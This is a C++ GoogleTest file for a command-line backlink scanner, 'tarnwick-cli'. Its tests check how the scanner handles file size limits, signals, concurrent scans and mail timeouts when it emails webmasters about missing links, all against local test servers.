// Under a file size limit (ulimit -f) neither the history nor the report can
// be written: each is told as a full disk is, every page is still checked and
// printed, and SIGXFSZ does not end the program.
TEST_F(CliServerTest, FileSizeLimitIsToldAndTheRunGoesOn) {
    std::vector<std::string> pages;
    for (int k = 0; k < 30; ++k) {
        pages.push_back(server().http("/files/a.html?" + std::to_string(k)));
    }
    addProfile("www.example.com", pages, false);
    const std::string report = m_folder.root() + "/Report.txt";
    // 2 blocks: less than SQLite's first page and the report.
    const Outcome o = runProgram({"/bin/sh", "-c", "ulimit -f 2 && exec \"$0\" \"$@\"",
                                  TARNWICK_CLI_PATH, "scan", "--no-mail", "--report", report});
    EXPECT_EQ(o.status, 2) << o.err;  // the report could not be written
    EXPECT_NE(o.err.find("tarnwick-cli: History not recorded: "), std::string::npos) << o.err;
    EXPECT_NE(o.err.find("(file size limit reached)"), std::string::npos) << o.err;
    EXPECT_NE(o.err.find("File size limit reached while accessing "), std::string::npos) << o.err;
    EXPECT_EQ(std::count(o.out.begin(), o.out.end(), '\n'), 31) << o.out;
    EXPECT_NE(o.out.find(pages.back() + "\tLink Found\t"), std::string::npos) << o.out;
}

// A real SMTP server counts the letters: only pages seen completely that lost
// the link (or answered 404/410) are mailed, never a page behind a bot wall, a
// rate limit, maintenance, a cut-off transfer, a profile whose address has a
// capital letter or a byte-order mark, nor a profile without an address.
TEST_F(CliServerTest, LettersOnlyWhenTheEvidenceHolds) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = smtp.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    server().addFile("phrase.html", "<title>404 Not Found</title><p>Gone.</p>");
    // The words of a missing page beside a real link: the link counts.
    server().addFile("phraselink.html",
                     "<title>404 Not Found</title><a href=\"http://www.example.com/\">");
    const PageServer& s = server();
    const std::vector<std::string> mailed = {s.http("/files/b.html"), s.http("/status/404/a.html"),
                                             s.http("/status/410/a.html"),
                                             s.http("/files/phrase.html")};
    const std::vector<std::string> notMailed = {
        s.http("/files/a.html"),
        s.http("/files/phraselink.html"),
        s.http("/status/403/a.html"),
        s.http("/status/429/b.html"),
        s.http("/status/503/a.html"),
        s.http("/reset/b.html"),
        s.http("/close/b.html"),
        s.http("/badchunk/b.html"),
        s.http("/trickle/b.html?every=0.1"),
        "http://127.0.0.1:" + std::to_string(test::unusedPort()) + "/"};
    std::vector<std::string> pages = mailed;
    pages.insert(pages.end(), notMailed.begin(), notMailed.end());
    addProfile("www.example.com", pages, true);
    // Capitals and a byte-order mark: the link on a.html is still found.
    const DataFolder& f = m_folder.folder();
    test::writeBytes(f.profilePathOfText("www.caps.example"),
                     "\xEF\xBB\xBFLink: http://WWW.Example.COM\r\n" + s.http("/files/a.html") +
                         "|||webmaster@partner.example|||1|||");
    appendStoreLine(f.indexPath(), f.profilePathOfText("www.caps.example"));
    // "Link:" alone: no address to ask back.
    test::writeBytes(f.profilePathOfText("www.bare.example"),
                     "Link:\r\n" + s.http("/files/b.html") + "|||webmaster@partner.example|||1|||");
    appendStoreLine(f.indexPath(), f.profilePathOfText("www.bare.example"));

    const Outcome o = runCli({"scan", "--page-timeout", "1"});
    EXPECT_EQ(o.status, 1);
    const auto mail = smtp.waitForMail(mailed.size() + 1, std::chrono::milliseconds(1000));
    ASSERT_EQ(mail.size(), mailed.size()) << o.out;
    for (const std::string& page : mailed) {
        EXPECT_EQ(std::count_if(mail.begin(), mail.end(),
                                [&](const test::ReceivedMail& m) {
                                    return m.m_text.find("URL [" + page + "]") != std::string::npos;
                                }),
                  1)
            << page;
    }
    EXPECT_NE(o.out.find("http://WWW.Example.COM\t" + s.http("/files/a.html") + "\tLink Found\t"),
              std::string::npos)
        << o.out;
    EXPECT_NE(o.out.find("\t" + s.http("/files/b.html") +
                         "\tLink Not Found\tthe profile has no advertiser's address\n"),
              std::string::npos)
        << o.out;
    EXPECT_NE(o.err.find(": Not mailed: the profile has no advertiser's address\n"),
              std::string::npos)
        << o.err;
}

// A scan stopped by SIGINT or SIGTERM 50 ms after the SMTP server accepted a
// letter, or killed (SIGKILL) while the server had the letter and had not yet
// answered: the next run knows of the letter and, within its quiet days,
// sends the webmaster no second one. A letter cut off with its program is
// taken as sent, and the next run says so.
TEST_F(CliServerTest, NoSecondLetterAfterASignal) {
    const struct {
        int signal;
        int status;      // -1: ended by the signal
        bool lateReply;  // the server answers DATA 2 s after it has the letter
    } cases[] = {{SIGINT, 130, false}, {SIGTERM, 143, false}, {SIGKILL, -1, true}};
    const DataFolder& f = m_folder.folder();
    const std::string lost = server().http("/files/b.html");
    for (const auto& c : cases) {
        SCOPED_TRACE(strsignal(c.signal));
        std::filesystem::remove_all(f.folder());
        f.ensureExists();
        test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
        ASSERT_TRUE(smtp.started()) << smtp.failure();
        useMailServer(smtp);
        test::writeBytes(f.folder() + "/Letters.ini", "quiet_days=30\r\n");
        // The slow second page keeps the run going after the first one's letter.
        addProfile("www.example.com", {lost, server().http("/delay/3000/a.html")}, true);
        smtp.delayReplies(std::chrono::milliseconds(c.lateReply ? 2000 : 0));

        Started first({TARNWICK_CLI_PATH, "scan"});
        ASSERT_EQ(smtp.waitForMail(1).size(), 1u);
        if (!c.lateReply) {
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
        }
        const auto start = std::chrono::steady_clock::now();
        ASSERT_EQ(kill(first.pid(), c.signal), 0);
        const std::string pid = std::to_string(first.pid());
        const Outcome stopped = first.finish();
        EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
        EXPECT_EQ(stopped.status, c.status) << stopped.err;
        if (c.status > 0) {
            EXPECT_EQ(stopped.err, std::string("tarnwick-cli: ") +
                                       (c.signal == SIGINT ? "SIGINT" : "SIGTERM") +
                                       ": stopping the scan\n");
            // The page checked before the signal; the stopped one is not printed.
            EXPECT_EQ(stopped.out, "www.example.com\t" + lost +
                                       "\tLink Not Found\tno link to the advertiser\n"
                                       "www.example.com\tStopped.\n");
        }

        smtp.delayReplies(std::chrono::milliseconds(0));
        const Outcome second = runCli({"scan", "--page-timeout", "1"});
        EXPECT_EQ(second.status, 1) << second.err;
        EXPECT_NE(second.err.find("tarnwick-cli: mail for " + lost +
                                  ": Not mailed: this webmaster was mailed about the page on "),
                  std::string::npos)
            << second.err;
        EXPECT_EQ(second.err.find("tarnwick-cli: The letter to webmaster@partner.example about " +
                                  lost + " was being sent when its program (process " + pid +
                                  ") ended; it is taken as sent\n") != std::string::npos,
                  c.lateReply)
            << second.err;
        EXPECT_EQ(smtp.waitForMail(2, std::chrono::milliseconds(500)).size(), 1u);
    }
}

// Stop and Play again, as a user does when a run seems stuck: with the
// letter rules as they come (no Letters.ini), the webmaster mailed before
// the stop gets no second letter; with letters waiting for two missing runs,
// the stopped run and its restart count as one round, and only the next run
// mails.
TEST_F(CliServerTest, StopAndRestartSendsEachLetterOnce) {
    const DataFolder& f = m_folder.folder();
    const std::string lost = server().http("/files/b.html");
    for (const bool twoRounds : {false, true}) {
        SCOPED_TRACE(twoRounds ? "missing_runs=2" : "the defaults");
        std::filesystem::remove_all(f.folder());
        f.ensureExists();
        test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
        ASSERT_TRUE(smtp.started()) << smtp.failure();
        useMailServer(smtp);
        if (twoRounds) {
            test::writeBytes(f.folder() + "/Letters.ini", "missing_runs=2\r\n");
        }
        addProfile("www.example.com", {lost, server().http("/delay/3000/a.html")}, true);

        Started first({TARNWICK_CLI_PATH, "scan"});
        if (twoRounds) {
            // Stopped once the first page is in the history.
            const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
            bool recorded = false;
            while (!recorded && std::chrono::steady_clock::now() < deadline) {
                std::this_thread::sleep_for(std::chrono::milliseconds(50));
                try {
                    HistoryDatabase db(HistoryDatabase::pathIn(f.folder()), false, 100);
                    const std::vector<RunInfo> runs = db.runs();
                    recorded = !runs.empty() && runs.back().m_counts.m_notFound == 1;
                } catch (const HistoryError&) {
                }
            }
            ASSERT_TRUE(recorded);
        } else {
            ASSERT_EQ(smtp.waitForMail(1).size(), 1u);
        }
        ASSERT_EQ(kill(first.pid(), SIGINT), 0);
        EXPECT_EQ(first.finish().status, 130);

        const Outcome again = runCli({"scan", "--page-timeout", "1"});
        EXPECT_EQ(again.status, 1) << again.err;
        EXPECT_NE(
            again.err.find("tarnwick-cli: mail for " + lost + ": Not mailed: " +
                           (twoRounds ? "the link has been missing in 1 run, letters wait for 2"
                                      : "this webmaster was mailed about the page on ")),
            std::string::npos)
            << again.err;
        EXPECT_EQ(smtp.waitForMail(2, std::chrono::milliseconds(500)).size(), twoRounds ? 0u : 1u);
        if (twoRounds) {
            // The next run is the second round: its letter goes.
            EXPECT_EQ(runCli({"scan", "--page-timeout", "1"}).status, 1);
            EXPECT_EQ(smtp.waitForMail(1).size(), 1u);
        }
    }
}

// Two scans of one data folder at once (the weekly timer's during a run of
// the desktop program): the second refuses, naming the first, or with
// --lock-wait waits for it to end; the webmaster gets one letter.
TEST_F(CliServerTest, TwoScansAtOnceSendOneLetter) {
    test::SmtpTestServer smtp(test::SmtpTestServer::Mode::Plain);
    ASSERT_TRUE(smtp.started()) << smtp.failure();
    useMailServer(smtp);
    const DataFolder& f = m_folder.folder();
    test::writeBytes(f.folder() + "/Letters.ini", "quiet_days=30\r\n");
    const std::string lost = server().http("/files/b.html");
    // The first scan holds the lock for 5 s: long enough for the two others
    // to find it held however loaded the machine is.
    addProfile("www.example.com", {lost, server().http("/delay/5000/a.html")}, true);

    Started first({TARNWICK_CLI_PATH, "scan"});
    const std::string pid = std::to_string(first.pid());
    // The lock is taken (and its holder written) before anything else.
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    while (test::readBytes(f.folder() + "/scan.lock").rfind(pid + " ", 0) != 0 &&
           std::chrono::steady_clock::now() < deadline) {
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    const std::string holder = "(tarnwick-cli scan, process " + pid + ")";
    const Outcome refused = runCli({"scan"});
    EXPECT_EQ(refused.status, 75);
    EXPECT_EQ(refused.out, "");
    EXPECT_EQ(refused.err, "tarnwick-cli: another scan of the data folder " + f.folder() +
                               " is running " + holder +
                               "; try again when it has ended, or wait for it with --lock-wait "
                               "SECONDS\n");
    const Outcome waited = runCli({"scan", "--lock-wait", "60", "--page-timeout", "1"});
    EXPECT_EQ(waited.status, 1);
    EXPECT_EQ(waited.err.rfind("tarnwick-cli: waiting for the other scan of the data folder " +
                                   holder + " to end\n",
                               0),
              0u)
        << waited.err;
    EXPECT_NE(waited.err.find(": Not mailed: this webmaster was mailed about the page on "),
              std::string::npos)
        << waited.err;
    const Outcome firstDone = first.finish();
    EXPECT_EQ(firstDone.status, 1) << firstDone.err;
    EXPECT_EQ(firstDone.err, "");
    EXPECT_EQ(smtp.waitForMail(2, std::chrono::milliseconds(500)).size(), 1u);
    EXPECT_EQ(runCli({"scan", "--lock-wait", "-1"}).status, 2);
}

// The command line waits for its letters a bounded time, then names those it
// could not send.
TEST_F(CliServerTest, LettersNotSentInTimeAreNamed) {
    // A server that accepts connections and never greets: each letter waits
    // for it until its own bound.
    // Not inherited by the program under test, so closing it here resets
    // the connections waiting in its queue.
    test::MuteListener mute;
    ASSERT_GT(mute.port(), 0);
    MailSettings settings;
    settings.m_sender = "scanner@example.com";
    settings.m_smtpServer = mute.address();
    writeMailSettings(m_folder.folder().mailPath(), settings);
    std::vector<std::string> pages;
    for (int k = 0; k < 6; ++k) {
        pages.push_back(server().http("/files/b.html?" + std::to_string(k)));
    }
    addProfile("www.example.com", pages, true);
    // The letters on their way fail once the server goes away (its queued
    // connections are reset), well after the command line stopped waiting.
    std::thread closer([&mute] {
        std::this_thread::sleep_for(std::chrono::milliseconds(2500));
        mute.close();
    });
    const auto start = std::chrono::steady_clock::now();
    const Outcome o = runCli({"scan", "--mail-wait", "1"});
    const auto took = std::chrono::steady_clock::now() - start;
    EXPECT_EQ(o.status, 1);
    // Four letters are on their way when the wait ends and end with it; the
    // other two, still queued, are named.
    size_t named = 0;
    for (size_t at = o.err.find("was not sent: no time was left for it"); at != std::string::npos;
         at = o.err.find("was not sent: no time was left for it", at + 1)) {
        ++named;
    }
    EXPECT_EQ(named, 2u) << o.err;
    EXPECT_NE(
        o.err.find("the letter to webmaster@partner.example about " + pages[5] + " was not sent"),
        std::string::npos)
        << o.err;
    // The wait is the bound: the letters on their way do not outlast it
    // (the server goes away only after 2.5 s).
    EXPECT_LT(took, std::chrono::milliseconds(2400)) << o.err;
    closer.join();
}

}  // namespace
}  // namespace tarnwick
